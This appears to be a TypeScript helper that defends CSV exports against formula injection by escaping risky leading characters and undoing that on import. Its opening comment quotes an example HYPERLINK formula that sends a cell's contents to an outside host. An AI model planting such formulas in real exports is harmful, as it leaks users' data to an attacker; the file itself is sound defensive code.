/**
 * Characters that make Excel or LibreOffice read a CSV cell as a formula (OWASP "CSV injection"):
 * `=HYPERLINK("http://…?d="&C2)` planted in a merchant's name would run when the owner opens the
 * export. Tab and carriage return are on OWASP's list because some spreadsheets skip them first.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Text as a CSV holds it: one a spreadsheet would run gets a leading `'`, which makes it text. */
export const spreadsheetText = (text: string): string =>
  FORMULA_START.test(text) ? `'${text}` : text;

/**
 * The text again from a cell `spreadsheetText` wrote, so an exported file imports as it was
 * typed (`'+91 98250 41230` is the phone `+91 98250 41230`); any other `'` is the user's own.
 */
export const fromSpreadsheetText = (cell: string): string =>
  cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
